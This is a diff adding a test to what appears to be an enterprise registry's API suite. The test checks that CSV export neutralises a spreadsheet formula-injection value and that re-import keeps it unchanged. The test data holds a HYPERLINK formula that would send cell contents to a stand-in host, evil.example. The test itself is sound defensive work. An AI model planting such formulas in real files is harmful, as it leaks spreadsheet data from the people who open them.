@@ -241,3 +241,23 @@ test('a person record is masked everywhere and revealed only with the permission
   assert.equal(byNumber.total, 1, 'found again by the full number through the keyed hash');
   assert.equal((await admin.get(`/api/v1/person/${person.id}/reveal?field=name`)).status, 400);
 });
+
+test('CSV export guards text that Excel would run as a formula, and imports it back unchanged', async () => {
+  const region = (await admin.list('region', { level: '区县' })).items[0];
+  const uscc = makeUscc(region.code.slice(0, 6));
+  const evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
+  const c = await admin.post('/api/v1/enterprise', {
+    name: '公式注入测试有限公司', uscc, region_id: region.id, main_products: evil,
+  });
+  assert.equal(c.status, 201, String(c));
+  const res = await fetch(`${w.base}/api/v1/enterprise/export?format=csv&uscc=${uscc}`,
+    { headers: { Cookie: admin.cookie } });
+  assert.equal(res.status, 200);
+  const csv = await res.text();
+  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`), csv.slice(0, 500));
+  assert.ok(!/(^|,)=HYPERLINK/m.test(csv), 'no cell starts with =');
+  const back = await upload(admin, 'enterprise', csv);
+  assert.equal(back.status, 200, String(back));
+  assert.deepEqual([back.body.inserted, back.body.updated, back.body.unchanged], [0, 0, 1]);
+  assert.equal((await admin.get(`/api/v1/enterprise/${c.body.id}`)).body.main_products, evil);
+});
